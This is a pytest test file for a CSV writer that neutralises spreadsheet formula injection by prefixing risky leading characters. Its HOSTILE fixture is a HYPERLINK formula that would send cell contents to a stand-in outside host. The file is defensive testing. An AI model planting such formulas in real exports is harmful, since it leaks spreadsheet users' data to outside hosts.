"""Downloads and commands write cells that no spreadsheet runs."""

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.output import Format, print_rows
from release_strategies import answers
from task_group.hotspot_answer import HotspotAnswer
from web.csv_lines import csv_lines
from web.hotspot_rows import hotspot_rows

HOSTILE = '=HYPERLINK("http://elsewhere.example/"&A1)'


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", [HOSTILE, "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_what_would_be_a_formula_is_text(value: str) -> None:
    assert read(csv_lines(["id"], [{"id": value}])) == [{"id": f"'{value}"}]


@given(st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0")))
def test_every_other_text_stays_as_it_is(value: str) -> None:
    (row,) = read(csv_lines(["id", "last"], [{"id": value, "last": "x"}]))
    assert row["id"].removeprefix("'") == value.removeprefix("'")
    assert not row["id"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_stay_numbers_and_nothing_is_empty() -> None:
    row = {"days": -3400.0, "victims": 5, "high": None}
    assert csv_lines(list(row), [row]) == "days,victims,high\r\n-3400.0,5,\r\n"


def test_commands_write_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    rows: list[dict[str, Any]] = [{"id": HOSTILE, "events": -1}]
    print_rows(rows, Format.CSV)
    assert read(capsys.readouterr().out) == [{"id": f"'{HOSTILE}", "events": "-1"}]


@given(answers())
def test_no_figure_of_a_release_is_changed(answer: HotspotAnswer) -> None:
    rows = hotspot_rows(answer)
    written = read(csv_lines(list(rows[0]), rows)) if rows else []
    assert written == [
        {name: "" if value is None else str(value) for name, value in row.items()} for row in rows
    ]
